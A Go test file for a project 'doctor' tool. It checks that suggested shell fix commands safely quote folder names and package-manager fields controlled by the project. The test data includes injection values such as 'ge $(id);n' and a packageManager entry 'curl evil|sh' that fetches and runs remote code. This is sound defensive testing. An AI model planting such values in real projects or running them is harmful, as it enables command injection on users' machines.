package doctor_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"create-app/doctor"
)

// A cure is pasted into a shell: what a project calls its folders, its package manager and its packages stays a word there.
func TestCuresAreNoCommandsOfTheProject(t *testing.T) {
	a := newApp(t, "sqlite")
	a.replace("prisma/schema.prisma", `"../generated/prisma"`, `"../ge $(id);n"`)
	a.write("ge $(id);n/client.ts", "export {}")
	a.depend("next-auth", "4.24.15")
	a.depend("next", "12.0.0")
	a.write("package.json", strings.Replace(a.read("package.json"), "{", `{"packageManager": "curl evil|sh;#@1.0.0",`, 1))
	a.world.Git = repository{tracked: []string{a.path("ge $(id);n/client.ts")}}
	cures := map[string]string{}
	for _, f := range a.examine().Findings {
		cures[f.ID] = f.Cure
		assert.NotContains(t, f.Cure, "curl evil")
	}
	assert.Equal(t, `git rm -r --cached 'ge $(id);n' && echo '/ge $(id);n' >> .gitignore`, cures["client-committed"])

	a.world.Git = repository{untracked: []string{a.path("ge $(id);n/client.ts")}}
	edits := a.cure()
	require.NotEmpty(t, edits.Edits)
	assert.Contains(t, string(editOf(t, edits, a.path(".gitignore"))), "\n/ge $(id);n\n")
}

func editOf(t *testing.T, cures *doctor.Cures, path string) []byte {
	t.Helper()
	for _, e := range cures.Edits {
		if filepath.Clean(e.Path) == path {
			return e.Content
		}
	}
	t.Fatalf("%s is not changed", path)
	return nil
}

func TestTheModeOfAnOddFile(t *testing.T) {
	a := newApp(t, "sqlite")
	require.NoError(t, os.Rename(a.dir, a.dir+" $(id)"))
	a.dir += " $(id)"
	require.NoError(t, os.Chmod(a.path(".env"), 0o644))
	for _, f := range a.examine().Findings {
		assert.Equal(t, "chmod 600 .env", f.Cure)
	}
}
